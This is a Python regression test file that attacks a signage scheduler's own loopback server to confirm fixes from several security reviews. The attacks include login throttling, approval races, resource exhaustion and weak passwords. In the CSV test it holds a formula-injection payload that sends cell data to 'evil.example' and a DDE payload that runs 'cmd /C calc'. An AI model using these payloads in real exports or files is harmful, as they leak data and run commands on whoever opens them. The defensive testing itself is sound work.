"""Holes found by the second security review, attacked over real HTTP against the real scheduler on loopback.

Each test fails on the code before its fix: password guessing through the API's Basic credentials (no
throttle), one guesser behind the TLS proxy locking every colleague out, spreadsheet formulas in the
proof-of-play CSV, one admin airing any text through a CAP feed of their own, an edit slipped in
between an approver opening an announcement and clicking Approve, any logged-in account making the
server hold up to a gigabyte of form fields in memory, anyone making it read a whole upload
before asking who they are, a viewer flooding a screen with screenshot requests, a locked-out guesser
filling the audit log, a viewer holding every worker thread with previews of many instants, fleet changes
through the API (which widen an approved announcement's reach) missing from the audit log.
"""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import requests
from fake_cap import FakeCapFeed, cap_document
from sources_support import poll_now
from tests_support import enrol, post_approve
from web_support import WebClient, logged_in

from content.sources.fakeopensid import FakeOpenSid
from scheduler import login_throttle
from scheduler.auth import create_user
from scheduler.clientaddr import parse_networks
from scheduler.service import LOGIN_USER_WIDE_FACTOR
from scheduler.sources_jobs import SourcePoller
from signage.errors import UserError

pytestmark = pytest.mark.slow
TIMEOUT_S = 30


@pytest.fixture
def feed() -> Iterator[FakeCapFeed]:
    server = FakeCapFeed()
    yield server
    server.stop()


def _api(live: Any, method: str, path: str, auth: tuple[str, str], **kwargs: Any) -> requests.Response:
    if method == "POST" and path.endswith("/approve") and not kwargs:
        return post_approve(f"{live.url}/api/v1/admin{path}", auth=auth, timeout=TIMEOUT_S)
    return requests.request(method, f"{live.url}/api/v1/admin{path}", auth=auth, timeout=TIMEOUT_S, **kwargs)


def test_password_guessing_through_the_api_is_throttled_like_the_login_form(live_scheduler: Any) -> None:
    service = live_scheduler.service
    right = ("editor", service.demo_accounts.editor_password)
    for i in range(service.config.login_max_failures):
        wrong = _api(live_scheduler, "GET", "/announcements", ("editor", f"tebakan-{i}"))
        assert wrong.status_code == 401, wrong.text
    locked = _api(live_scheduler, "GET", "/announcements", right)
    assert locked.status_code == 429, locked.text  # even the right password, until the lockout passes
    assert locked.json() == {"ok": False, "status": 429, "field": "password", "error": locked.json()["error"]}
    assert "too many failed logins" in locked.json()["error"]
    # The web form shares the count: the guessed user name is locked there too.
    assert WebClient(live_scheduler.url).login(*right).status_code == 429
    with service.lock:
        assert service.db.table("audit_log").count_where("action = 'login.failed' and detail like '%(api)'") >= 5
    # Another account from another address is not affected.
    other = _api(live_scheduler, "GET", "/announcements", ("admin", service.demo_accounts.admin_password))
    assert other.status_code == 200


def test_one_guesser_behind_the_tls_proxy_does_not_lock_every_colleague_out(live_scheduler: Any) -> None:
    service = live_scheduler.service
    service.trusted_proxies = parse_networks(["127.0.0.1"])  # the scheduler runs behind a TLS proxy on this host
    attacker = WebClient(live_scheduler.url)
    attacker.http.headers["X-Forwarded-For"] = "203.0.113.9"
    for i in range(service.config.login_max_failures_per_address):
        assert attacker.login(f"tebak{i}", "salah").status_code == 401
    assert attacker.login("admin", service.demo_accounts.admin_password).status_code == 429
    colleague = WebClient(live_scheduler.url)
    colleague.http.headers["X-Forwarded-For"] = "198.51.100.7"
    assert colleague.login("admin", service.demo_accounts.admin_password).status_code == 303


def test_report_csv_keeps_formulas_typed_by_staff_or_sent_by_a_player_as_text(live_scheduler: Any) -> None:
    service = live_scheduler.service
    token = enrol(live_scheduler, "desa-antibar", "TPC234")["token"]
    editor = ("editor", service.demo_accounts.editor_password)
    title = '=HYPERLINK("http://evil.example/?d="&A1,"Klik untuk jadwal")'
    body = {"title": title, "targets": {"displays": ["desa-antibar"]}}
    ann_id = _api(live_scheduler, "POST", "/announcements", editor, json=body).json()["announcement"]["id"]
    now = service.now_iso()
    events = [{"id": str(uuid.uuid4()), "item_id": item, "started_at": now, "ended_at": now, "duration_ms": 10000}
              for item in (f"ann-{ann_id}", "@SUM(1+1)*cmd|' /C calc'!A0")]  # fmt: skip
    sent = requests.post(f"{live_scheduler.url}/api/v1/player/play-events", json={"events": events},
                         headers={"Authorization": f"Bearer {token}"}, timeout=TIMEOUT_S)  # fmt: skip
    assert sent.status_code == 200 and sent.json()["accepted"] == 2, sent.text
    exported = logged_in(live_scheduler, "admin").get("/admin/reports.csv")
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    cells = [row[column] for row in rows for column in ("display_id", "display_name", "item_id", "title")]
    assert "'" + title in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells, rows
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


def _cap_form(client: WebClient, feed: FakeCapFeed, options: dict[str, Any]) -> dict[str, str]:
    return {"csrf_token": client.token("/admin/sources"), "id": "peringatan", "name": "Peringatan dini",
            "kind": "cap", "url": feed.url, "poll_interval_min": "1", "timeout_s": "2",
            "options": json.dumps(options)}  # fmt: skip


def test_one_admin_cannot_air_text_through_a_cap_feed_of_their_own(live_scheduler: Any, feed: FakeCapFeed) -> None:
    service = live_scheduler.service
    token = enrol(live_scheduler, "desa-antibar", "TPK234")["token"]  # in group kabupaten
    admin = logged_in(live_scheduler, "admin")
    areas = {"Mempawah": ["kabupaten"]}
    # 1. A feed that airs by itself cannot be set up from the web admin.
    r = admin.post("/admin/sources", _cap_form(admin, feed, {"areas": areas, "auto_air": True}))
    assert r.status_code == 400 and "auto_air" in r.text and "signage sources add" in r.text
    with service.lock:
        assert service.db.table("data_sources").count_where("id = 'peringatan'") == 0
    # 2. Without it, the alert waits for an approver -- and the admin who chose the feed is not that approver.
    r = admin.post("/admin/sources", _cap_form(admin, feed, {"areas": areas}))
    assert r.status_code == 200 and "/admin/sources/peringatan" in r.url
    now = datetime.now(UTC).replace(microsecond=0)
    feed.publish(
        "PALSU1",
        cap_document(
            "PALSU1",
            headline="PESAN PALSU DARI ADMIN",
            effective=now.isoformat(),
            expires=(now + timedelta(hours=2)).isoformat(),
        ),
    )
    SourcePoller(service, tick_s=3600).run_due()
    with service.lock:
        [alert] = service.db.table("announcements").rows_where("title = 'PESAN PALSU DARI ADMIN'")
    assert alert["status"] == "draft" and alert["layer"] == "emergency"
    admin_auth = ("admin", service.demo_accounts.admin_password)
    refused = _api(live_scheduler, "POST", f"/announcements/{alert['id']}/approve", admin_auth)
    assert refused.status_code == 403 and "two-person" in refused.json()["error"], refused.text
    manifest = requests.get(f"{live_scheduler.url}/api/v1/player/manifest",
                            headers={"Authorization": f"Bearer {token}"}, timeout=TIMEOUT_S)  # fmt: skip
    assert "PESAN PALSU" not in manifest.text
    # A second person reads it and decides.
    with service.lock:
        create_user(service.db, "penyetuju", "approver", "password-penyetuju", service.now_iso())
    ok = _api(live_scheduler, "POST", f"/announcements/{alert['id']}/approve", ("penyetuju", "password-penyetuju"))
    assert ok.status_code == 200, ok.text


def _approve_form(client: WebClient, ann_id: int) -> dict[str, str]:
    """The approve button's form as the approver's page has it (CSRF token and the version shown)."""
    page = client.get(f"/admin/announcements/{ann_id}").text
    form = re.search(rf'action="/admin/announcements/{ann_id}/approve">(.*?)</form>', page, re.S)
    assert form, "no approve button on the page"
    return dict(re.findall(r'name="([a-z_]+)" value="([^"]*)"', form.group(1)))


def test_an_edit_made_while_the_approver_reads_is_never_approved_unseen(live_scheduler: Any) -> None:
    service = live_scheduler.service
    token = enrol(live_scheduler, "desa-antibar", "TPV234")["token"]
    editor = ("editor", service.demo_accounts.editor_password)
    with service.lock:
        create_user(service.db, "penyetuju", "approver", "password-penyetuju", service.now_iso())
    approver = logged_in(live_scheduler, "penyetuju", "password-penyetuju")
    body = {"title": "Posyandu Balita", "body": "Senin pagi", "targets": {"displays": ["desa-antibar"]}}
    ann = _api(live_scheduler, "POST", "/announcements", editor, json=body).json()["announcement"]
    _api(live_scheduler, "POST", f"/announcements/{ann['id']}/submit", editor).raise_for_status()
    # The approver opens the page and reads the harmless text...
    form = _approve_form(approver, ann["id"])
    assert form["version"] == ann["version"]
    # ...the editor swaps the content meanwhile (still "submitted")...
    swapped = {**body, "title": "PESAN PALSU", "layer": "emergency"}
    edited = _api(live_scheduler, "PUT", f"/announcements/{ann['id']}", editor, json=swapped).json()["announcement"]
    assert edited["status"] == "submitted" and edited["version"] != ann["version"]
    # ...and the click on the stale page approves nothing.
    page = approver.post(f"/admin/announcements/{ann['id']}/approve", form)
    assert page.status_code == 200 and "diubah setelah Anda membukanya" in page.text
    with service.lock:
        assert service.db.table("announcements").get(ann["id"])["status"] == "submitted"
    manifest = requests.get(f"{live_scheduler.url}/api/v1/player/manifest",
                            headers={"Authorization": f"Bearer {token}"}, timeout=TIMEOUT_S)  # fmt: skip
    assert "PESAN PALSU" not in manifest.text
    # The API the same: the version read is checked (409, one error shape).
    approver_auth = ("penyetuju", "password-penyetuju")
    stale = _api(live_scheduler, "POST", f"/announcements/{ann['id']}/approve", approver_auth,
                 json={"version": ann["version"]})  # fmt: skip
    assert stale.status_code == 409 and stale.json()["field"] == "version" and stale.json()["ok"] is False
    # Having read the new content, the approver decides on it.
    assert "PESAN PALSU" in approver.get(f"/admin/announcements/{ann['id']}").text
    fresh = _approve_form(approver, ann["id"])
    assert fresh["version"] == edited["version"]
    assert "Disetujui" in approver.post(f"/admin/announcements/{ann['id']}/approve", fresh).text
    with service.lock:
        assert service.db.table("announcements").get(ann["id"])["status"] == "approved"


def test_a_logged_in_viewer_cannot_make_the_server_hold_huge_forms_in_memory(live_scheduler: Any) -> None:
    service = live_scheduler.service
    with service.lock:
        create_user(service.db, "petugas", "viewer", "password-petugas", service.now_iso())
    viewer = logged_in(live_scheduler, "petugas", "password-petugas")
    token = viewer.token()
    url = "/admin/announcements/1/approve"
    # An upload path allows 500 MiB for a file; a plain form there is parsed in memory: the default 1 MiB.
    fields = "&".join(f"f{i}=" + "x" * 900_000 for i in range(3))  # each under Starlette's 1 MiB per field
    big = viewer.post(url, data=f"csrf_token={token}&{fields}",
                      headers={"Content-Type": "application/x-www-form-urlencoded"})  # fmt: skip
    # a browser's form gets a page in words (the sixth review: it was the API's English JSON)
    assert big.status_code == 413 and "Berkas atau isian terlalu besar" in big.text and "1 MB" in big.text, big.text
    assert big.headers["content-type"].startswith("text/html")
    # Multipart: one file, and text fields of a staff form's size only (each would be held in memory).
    many_files = [("file", (f"f{i}.png", b"x" * 10, "image/png")) for i in range(3)]
    r = viewer.post("/admin/media", data={"csrf_token": token}, files=many_files)
    assert r.status_code == 400 and "Kirim satu berkas setiap kali" in r.text and "Too many files" in r.text
    long_field = viewer.post(url, data={"csrf_token": token, "reason": "x" * 200_000},
                             files={"file": ("a.png", b"x", "image/png")})  # fmt: skip
    assert long_field.status_code == 400 and "Salah satu isian terlalu panjang" in long_field.text
    assert "maximum size" in long_field.text  # the framework's own words stay beside ours, for support
    # A form of ordinary size still works (here: refused by the policy, a viewer may not approve).
    assert viewer.post(url, {"csrf_token": token}).status_code == 403


def test_the_api_upload_asks_who_is_calling_before_reading_the_body(live_scheduler: Any) -> None:
    """A stranger's 400 MiB "upload" is answered 401 at once: no byte of it is read, spooled or parsed."""
    host, port = live_scheduler.url.removeprefix("http://").split(":")
    head = (f"POST /api/v1/admin/media HTTP/1.1\r\nHost: {host}:{port}\r\n"
            "Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 419430400\r\n\r\n"
            '--b\r\nContent-Disposition: form-data; name="junk"\r\n\r\n' + "x" * 1000)  # fmt: skip
    with socket.create_connection((host, int(port)), timeout=TIMEOUT_S) as conn:
        conn.sendall(head.encode())  # ...and the rest never comes
        answer = conn.recv(4096).decode(errors="replace")
    assert answer.startswith("HTTP/1.1 401"), answer[:200]
    # With credentials, the form is bounded: one file, small text fields.
    editor = ("editor", live_scheduler.service.demo_accounts.editor_password)
    files = {"file": ("a.png", b"x", "image/png"), "note": (None, "x" * 200_000)}
    r = _api(live_scheduler, "POST", "/media", editor, files=files)
    assert r.status_code == 400 and "maximum size" in r.json()["error"], r.text[:200]
    missing = _api(live_scheduler, "POST", "/media", editor, json={"file": "x"})
    assert missing.status_code == 400 and missing.json()["field"] == "file", missing.text


def test_a_viewer_cannot_flood_a_screen_with_screenshot_requests(live_scheduler: Any) -> None:
    service = live_scheduler.service
    with service.lock:
        create_user(service.db, "petugas", "viewer", "password-petugas", service.now_iso())
    viewer = ("petugas", "password-petugas")
    answers = [_api(live_scheduler, "POST", "/displays/kantor-bupati/screenshot-request", viewer).status_code
               for _ in range(10)]  # fmt: skip
    assert answers.count(202) == 6 and answers[6:] == [429] * 4, answers
    events = service.events.missed("kantor-bupati", f"{service.events.boot}-0")  # all sent since the start
    sent = [e for e in events if e.type == "screenshot"]
    assert len(sent) == 6  # the refused ones never reach the player
    refused = _api(live_scheduler, "POST", "/displays/kantor-bupati/screenshot-request", viewer)
    assert refused.json()["field"] == "display_id" and "wait a minute" in refused.json()["error"]
    # Another display is not affected; the web admin says it in words.
    assert _api(live_scheduler, "POST", "/displays/desa-antibar/screenshot-request", viewer).status_code == 202
    web = logged_in(live_scheduler, "petugas", "password-petugas")
    page = web.post("/admin/displays/kantor-bupati/screenshot", {"csrf_token": web.token()})
    assert page.status_code == 200 and "tunggu satu menit" in page.text


def test_a_locked_out_guesser_does_not_fill_the_audit_log(live_scheduler: Any) -> None:
    service = live_scheduler.service
    attacker = WebClient(live_scheduler.url)
    for i in range(service.config.login_max_failures):
        assert attacker.login("editor", f"tebakan-{i}").status_code == 401
    for i in range(25):  # refused without a password check; each used to write an audit row
        assert attacker.login("editor", f"lagi-{i}").status_code == 429
        assert _api(live_scheduler, "GET", "/fleet", ("editor", f"lagi-{i}")).status_code == 429
    with service.lock:
        assert service.db.table("audit_log").count_where("action = 'login.locked'") == 1
        assert service.db.table("audit_log").count_where("action = 'login.failed'") == service.config.login_max_failures


def test_a_viewer_asking_for_many_previews_at_once_is_refused_not_queued(live_scheduler: Any) -> None:
    service = live_scheduler.service
    with service.lock:
        create_user(service.db, "petugas", "viewer", "password-petugas", service.now_iso())
    viewer = ("petugas", "password-petugas")
    url = f"{live_scheduler.url}/api/v1/admin/preview/displays/desa-antibar.png"

    def frame(minute: int) -> requests.Response:  # a distinct instant each: nothing is cached
        return requests.get(url, params={"at": f"2026-12-04 10:{minute:02d}"}, auth=viewer, timeout=300)

    with ThreadPoolExecutor(max_workers=20) as pool:
        answers = list(pool.map(frame, range(20)))
    statuses = sorted(a.status_code for a in answers)
    assert set(statuses) == {200, 429} and statuses.count(200) >= 2, statuses
    refused = next(a for a in answers if a.status_code == 429)
    assert refused.json()["field"] == "preview" and "try again" in refused.json()["error"]
    assert frame(59).status_code == 200  # once drawn, the renderer takes the next one


def test_fleet_changes_through_the_api_are_audited_like_the_web_admins(live_scheduler: Any) -> None:
    service = live_scheduler.service
    admin = ("admin", service.demo_accounts.admin_password)
    with service.lock:
        before = json.loads(service.db.table("displays").get("desa-antibar")["groups"])
    r = _api(live_scheduler, "POST", "/groups", admin, json={"id": "pasar", "name": "Pasar", "kind": "tag"})
    assert r.status_code == 201, r.text
    r = _api(live_scheduler, "PATCH", "/displays/desa-antibar", admin, json={"groups": [*before, "pasar"]})
    assert r.status_code == 200, r.text
    r = _api(live_scheduler, "POST", "/displays", admin, json={"id": "pasar-sebukit", "name": "Pasar", "width": 320,
                                                                "height": 160})  # fmt: skip
    assert r.status_code == 201, r.text
    assert _api(live_scheduler, "DELETE", "/displays/pasar-sebukit", admin).status_code == 200
    with service.lock:
        fleet_rows = service.db.table("audit_log").rows_where("action like 'display.%' or action like 'group.%'")
        rows = {r["action"]: r for r in fleet_rows}
    assert {"group.create", "display.edit", "display.create", "display.delete"} <= set(rows), sorted(rows)
    edit = rows["display.edit"]
    assert edit["subject"] == "display:desa-antibar" and edit["user_id"] is not None
    assert "pasar" not in json.loads(edit["before"])["groups"] and "pasar" in json.loads(edit["after"])["groups"]
    # An enrolment approved, and a signing key rotated, through the API are audited too.
    enrol(live_scheduler, "kec-sungai-pinyuh", "TPA234")
    assert _api(live_scheduler, "POST", "/keys/rotate", admin).status_code == 200
    with service.lock:
        assert service.db.table("audit_log").count_where("action = 'display.enrol'") == 1
        assert service.db.table("audit_log").count_where("action = 'keys.rotate' and user_id is not null") == 1


def test_one_admin_cannot_air_a_news_article_from_a_village_site_of_their_own(live_scheduler: Any) -> None:
    # The third review: a data source's news feed became drafts by a system user, so the admin who chose the
    # site's address could approve what it says (the CAP path already counted them as its authors).
    service = live_scheduler.service
    site = FakeOpenSid("natra").start()
    try:
        admin = logged_in(live_scheduler, "admin")
        options = {"categories": ["jenis-kelamin"], "targets": {"groups": ["kabupaten"]}}
        form = {"csrf_token": admin.token("/admin/sources"), "kind": "opensid", "poll_interval_min": "60",
                "timeout_s": "5", "id": "desa-palsu", "url": site.url, "options": json.dumps(options)}  # fmt: skip
        saved = admin.post("/admin/sources", form)
        assert saved.url.endswith("/admin/sources/desa-palsu"), saved.text
        poll_now(service, "desa-palsu")
    finally:
        site.stop()
    with service.lock:
        [article] = service.db.table("announcements").rows_where("title = 'Posyandu Balita Dusun Parit Baru'")
    assert article["status"] == "draft"
    admin_auth = ("admin", service.demo_accounts.admin_password)
    assert _api(live_scheduler, "POST", f"/announcements/{article['id']}/submit", admin_auth).status_code == 200
    refused = _api(live_scheduler, "POST", f"/announcements/{article['id']}/approve", admin_auth)
    assert refused.status_code == 403 and "two-person" in refused.json()["error"], refused.text
    with service.lock:
        create_user(service.db, "penyetuju2", "approver", "password-penyetuju2", service.now_iso())
    ok = _api(live_scheduler, "POST", f"/announcements/{article['id']}/approve", ("penyetuju2", "password-penyetuju2"))
    assert ok.status_code == 200, ok.text


def _stat_labels(service: Any, display_id: str) -> set[str]:
    """Category labels of the data slides in the display's current manifest."""
    published = service.publisher.latest(display_id)
    assert published is not None
    items = json.loads(published.body)["manifest"]["items"].values()
    return {c["label"] for i in items if i["type"] == "stat" for s in i["data"]["series"].values()
            for c in s["categories"]}  # fmt: skip


def test_a_village_site_cannot_put_new_words_on_an_approved_data_slide(live_scheduler: Any) -> None:
    # The third review: values were checked, labels were not -- an approved statistics slide showed whatever
    # category names the site sent next, and the admin who added the source could approve held data alone.
    service = live_scheduler.service
    site = FakeOpenSid("esensi").start()
    try:
        admin = logged_in(live_scheduler, "admin")
        form = {"csrf_token": admin.token("/admin/sources"), "kind": "opensid", "poll_interval_min": "60",
                "timeout_s": "5", "id": "desa-kata", "name": "Desa Kata", "url": site.url,
                "options": json.dumps({"categories": ["jenis-kelamin", "agama"], "feed": False})}  # fmt: skip
        assert admin.post("/admin/sources", form).url.endswith("/admin/sources/desa-kata")
        with service.lock:
            create_user(service.db, "penyetuju3", "approver", "password-penyetuju3", service.now_iso())
        approver = logged_in(live_scheduler, "penyetuju3", "password-penyetuju3")

        def decide(client: WebClient) -> requests.Response:
            with service.lock:
                [latest] = service.db.table("snapshots").rows_where("source_id = 'desa-kata'", order_by="id desc",
                                                                    limit=1)  # fmt: skip
            assert latest["status"] == "held"
            return client.post(f"/admin/sources/desa-kata/snapshots/{latest['id']}/approve",
                               {"csrf_token": client.token("/admin/sources")})  # fmt: skip

        poll_now(service, "desa-kata")  # the first data: every word is new
        assert decide(admin).status_code == 403  # the admin chose the site
        assert decide(approver).status_code == 200
        body = json.dumps({"source": "desa-kata", "slide": "bars", "series": "agama"})
        created = _api(live_scheduler, "POST", "/announcements", ("editor", service.demo_accounts.editor_password),
                       json={"title": "Agama", "kind": "stat", "body": body, "duration_s": 10,
                             "targets": {"displays": ["kantor-bupati"]}})  # fmt: skip
        assert created.status_code == 201, created.text
        approved = _api(live_scheduler, "POST", f"/announcements/{created.json()['announcement']['id']}/approve",
                        ("admin", service.demo_accounts.admin_password))  # fmt: skip
        assert approved.status_code == 200, approved.text
        assert "ISLAM" in _stat_labels(service, "kantor-bupati")

        # The site now names a category with a slogan: the same numbers, new words. Held, off air.
        page = str(site.page("/index.php/data-statistik/agama"))
        assert "ISLAM" in page
        site.overrides["/index.php/data-statistik/agama"] = page.replace("ISLAM", "PILIH CALON NOMOR 1")
        poll_now(service, "desa-kata")
        labels = _stat_labels(service, "kantor-bupati")
        assert "ISLAM" in labels and "PILIH CALON NOMOR 1" not in labels
        detail = admin.get("/admin/sources/desa-kata").text
        assert "PILIH CALON NOMOR 1" in detail.split('id="held-texts"', 1)[1].split("</dl>", 1)[0]
        assert decide(admin).status_code == 403
        assert "PILIH CALON NOMOR 1" not in _stat_labels(service, "kantor-bupati")
        assert decide(approver).status_code == 200  # read by another approver: it may air
        assert "PILIH CALON NOMOR 1" in _stat_labels(service, "kantor-bupati")
    finally:
        site.stop()


def test_a_stolen_display_token_cannot_fill_the_disk_with_play_events(live_scheduler: Any) -> None:
    # The third review: a display token could post play events without end (18 MB/s of database growth).
    service = live_scheduler.service
    token = enrol(live_scheduler, "desa-antibar", "TPF234")["token"]
    other = enrol(live_scheduler, "kantor-bupati", "TPG234")["token"]
    service.play_budget.per_day = 3000
    url = f"{live_scheduler.url}/api/v1/player/play-events"
    now = service.now_iso()

    def batch(n: int) -> dict[str, Any]:
        return {"events": [{"id": str(uuid.uuid4()), "item_id": "ann-1", "started_at": now, "ended_at": now,
                            "duration_ms": 10000} for _ in range(n)]}  # fmt: skip

    def send(body: dict[str, Any], bearer: str = token) -> requests.Response:
        return requests.post(url, json=body, headers={"Authorization": f"Bearer {bearer}"}, timeout=TIMEOUT_S)

    assert send(batch(2000)).json()["accepted"] == 2000
    refused = send(batch(2000))
    assert refused.status_code == 429 and refused.json()["field"] == "events", refused.text
    assert "play_events_max_per_day" in refused.json()["error"] and refused.headers.get("Retry-After")
    assert send(batch(1000)).json()["accepted"] == 1000  # up to the day's allowance exactly
    assert send(batch(1)).status_code == 429
    with service.lock:
        stored = service.db.execute("select count(*) from play_events where display_id = 'desa-antibar'").fetchone()
    assert stored[0] == 3000  # the refused batches wrote nothing
    assert send(batch(10), other).json()["accepted"] == 10  # each display has its own allowance


def test_a_guesser_locks_an_account_out_only_at_their_own_address(live_scheduler: Any) -> None:
    # The third review: five wrong passwords for "admin" from anywhere locked the admin out for everyone.
    service = live_scheduler.service
    service.trusted_proxies = parse_networks(["127.0.0.1"])  # behind the TLS proxy: addresses from X-Forwarded-For
    guesser, owner = WebClient(live_scheduler.url), WebClient(live_scheduler.url)
    guesser.http.headers["X-Forwarded-For"] = "203.0.113.9"
    owner.http.headers["X-Forwarded-For"] = "198.51.100.7"
    password = service.demo_accounts.admin_password
    for i in range(service.config.login_max_failures):
        assert guesser.login("admin", f"tebakan-{i}").status_code == 401
    assert guesser.login("admin", password).status_code == 429  # the guesser's address: locked
    assert owner.login("admin", password).status_code == 303  # the owner, elsewhere: logs in
    api = requests.get(f"{live_scheduler.url}/api/v1/admin/fleet", auth=("admin", password), timeout=TIMEOUT_S,
                       headers={"X-Forwarded-For": "198.51.100.8"})  # fmt: skip
    assert api.status_code == 200
    # Guessing spread over many addresses is still bounded for the name as a whole.
    many = service.config.login_max_failures * LOGIN_USER_WIDE_FACTOR
    for i in range(many - service.config.login_max_failures - 1):  # (the guesser's five count too)
        login_throttle.failed(service, "admin", f"10.9.{i // 200}.{i % 200 + 1}", "api")
    last = WebClient(live_scheduler.url)
    last.http.headers["X-Forwarded-For"] = "192.0.2.43"
    assert last.login("admin", "tebakan-terakhir").status_code == 401
    late = WebClient(live_scheduler.url)
    late.http.headers["X-Forwarded-For"] = "192.0.2.44"
    assert late.login("admin", password).status_code == 429


def test_the_password_form_is_no_oracle_and_refuses_guessable_passwords(live_scheduler: Any) -> None:
    # The third review: a session left open could try current passwords without limit; 12345678 was accepted.
    service = live_scheduler.service
    with service.lock:
        create_user(service.db, "petugas2", "viewer", "sandi-petugas-2", service.now_iso())
    client = logged_in(live_scheduler, "petugas2", "sandi-petugas-2")
    token = client.token("/admin/password")

    def change(current: str, new: str) -> requests.Response:
        return client.post("/admin/password", {"csrf_token": token, "current_password": current,
                                               "new_password": new, "repeat_password": new})  # fmt: skip

    # the admin's walk: "adminadmin" and "tono1234" (a name with a little added) were accepted
    # each refusal names the rule it broke, not every rule (left alone by the fifth review, fixed now)
    guessed_first, with_name = "paling dulu ditebak (seperti", "nama pengguna Anda dengan sedikit tambahan"
    repeated, digits, few = "potongan yang diulang", "hanya berisi angka", "karakter yang berbeda"
    for weak, words in (("12345678", digits), ("password123", guessed_first), ("petugas2", guessed_first),
                        ("aaaa1111", repeated), ("Bismillah", guessed_first), ("petugas2026", with_name),
                        ("adminadmin", repeated), ("Password2026!", guessed_first), ("qwertyuiop1", guessed_first),
                        ("Mempawah#1", guessed_first), ("P@ssw0rd", guessed_first), ("Rahasia2026", guessed_first),
                        ("Kominfo2026", guessed_first), ("qwertyui", repeated), ("aab1aab2", few),
                        ("zxcvbnm,./", repeated), ("2sagutep", with_name)):  # fmt: skip
        refused = change("sandi-petugas-2", weak)
        assert refused.status_code == 400, weak
        alert = refused.text.split('role="alert">', 1)[1].split("</div>", 1)[0]
        assert alert.startswith("Kata sandi baru:") and words in alert, (weak, alert)
    for i in range(service.config.login_max_failures):
        assert change(f"tebakan-{i}", "kalimat-sandi-baru").status_code == 400
    locked = change("sandi-petugas-2", "kalimat-sandi-baru")
    assert locked.status_code == 429 and "Terlalu banyak" in locked.text  # even the right one, for a while
    with pytest.raises(UserError) as caught, service.lock:
        create_user(service.db, "lemah", "viewer", "12345678", service.now_iso())
    assert caught.value.field == "password" and "digits only" in caught.value.message


def test_a_taken_user_name_is_named_as_taken(live_scheduler: Any) -> None:
    admin = logged_in(live_scheduler, "admin")
    form = {"csrf_token": admin.token("/admin/users"), "username": "editor", "role": "viewer", "language": "id"}
    taken = admin.post("/admin/users", form)
    assert taken.status_code == 400 and "sudah dipakai" in taken.text
    # the admin's walk: "ADMIN" beside "admin" made two look-alike names in the audit and approvals
    for look_alike in ("EDITOR", "Editor", "Admin"):
        again = admin.post("/admin/users", {**form, "username": look_alike})
        assert again.status_code == 400 and "sudah dipakai" in again.text, look_alike
    # and a name is the same name in any case at the login: "Editor" is editor
    password = live_scheduler.service.demo_accounts.editor_password
    assert WebClient(live_scheduler.url).login("Editor", password).headers["location"] == "/admin/"
    malformed = admin.post("/admin/users", {**form, "username": "nama dengan spasi"})
    assert malformed.status_code == 400 and "sudah dipakai" not in malformed.text and "huruf" in malformed.text


def test_dates_past_any_schedule_are_refused_whole_and_a_stored_one_breaks_no_page(live_scheduler: Any) -> None:
    """Found by the fourth review: a year 1 or 9999 date answered 500 (or 400) yet left a draft without its audit
    entry, and that draft's pages failed for good."""
    service = live_scheduler.service
    auth = ("editor", service.demo_accounts.editor_password)
    with service.lock:
        rows_before = service.db.table("announcements").count
        audits_before = service.db.table("audit_log").count
    for field, value in (("starts_at", "0001-01-01T00:00:00Z"), ("starts_at", "9999-12-31T23:59:59Z"),
                         ("ends_at", "0999-01-01T00:00:00Z"), ("starts_at", "0001-01-01T00:00:00+07:00")):  # fmt: skip
        body = {"title": "Tahun salah ketik", "targets": {"displays": ["kantor-bupati"]}, field: value}
        r = _api(live_scheduler, "POST", "/announcements", auth, json=body)
        assert r.status_code == 400, (value, r.status_code, r.text)
        assert r.json()["field"] == field and "year" in r.json()["error"], r.json()
    with service.lock:  # refused whole: no row, no audit entry
        assert service.db.table("announcements").count == rows_before
        assert service.db.table("audit_log").count == audits_before

    editor = logged_in(live_scheduler, "editor")
    form = {"csrf_token": editor.token(), "recurrence": "every_day", "layer": "normal", "duration_s": "10",
            "title": "Tahun salah ketik", "display": "kantor-bupati", "valid_from": "0001-01-01T00:00"}  # fmt: skip
    r = editor.post("/admin/announcements/new", form)
    assert r.status_code == 400 and "Berlaku mulai" in r.text, r.status_code
    r = _api(live_scheduler, "GET", "/preview/displays/kantor-bupati.png", auth, params={"at": "0001-01-01 00:00"})
    assert r.status_code == 400 and r.json()["field"] == "at", r.text

    # a draft stored before dates were checked: its pages show the date as stored instead of failing
    draft = {"title": "Disimpan dulu", "targets": {"displays": ["kantor-bupati"]}}
    r = _api(live_scheduler, "POST", "/announcements", auth, json=draft)
    assert r.status_code in (200, 201), r.text
    ann_id = r.json()["announcement"]["id"]
    with service.lock:
        service.db.table("announcements").update(ann_id, {"starts_at": "9999-12-31T23:59:59Z"})
    for path in (f"/admin/announcements/{ann_id}", f"/admin/announcements/{ann_id}/edit", "/admin/announcements"):
        page = editor.get(path)
        assert page.status_code == 200, (path, page.status_code)
    assert "9999-12-31" in editor.get(f"/admin/announcements/{ann_id}").text


def test_an_unreadable_body_or_a_nan_is_named_as_such(live_scheduler: Any) -> None:
    """Found by the fourth review: a body that is not JSON came back with no field, and a NaN duration was said
    to be 'at most 3600'."""
    auth = ("editor", live_scheduler.service.demo_accounts.editor_password)
    headers = {"Content-Type": "application/json"}
    for raw in (b'{"title": "\xff\xfe"}', b"[" * 50_000 + b"]" * 50_000, b'{"title": '):
        r = _api(live_scheduler, "POST", "/announcements", auth, data=raw, headers=headers)
        assert r.status_code in (400, 422) and r.json()["field"] is not None, (raw[:20], r.status_code, r.text)
    for raw in (b'{"title": "\xff\xfe"}', b"[" * 50_000 + b"]" * 50_000):
        r = _api(live_scheduler, "POST", "/announcements", auth, data=raw, headers=headers)
        assert r.json()["field"] == "body", r.text
    nan = b'{"title": "x", "targets": {"displays": ["kantor-bupati"]}, "duration_s": NaN}'
    r = _api(live_scheduler, "POST", "/announcements", auth, data=nan, headers=headers)
    assert r.status_code == 422 and r.json()["field"] == "duration_s" and "finite" in r.json()["error"], r.text
    r = requests.post(f"{live_scheduler.url}/api/v1/admin/media", auth=auth, timeout=TIMEOUT_S,
                      data=b"--x\r\nbroken", headers={"Content-Type": "multipart/form-data"})  # fmt: skip
    assert r.status_code == 400 and r.json()["field"] == "body", r.text
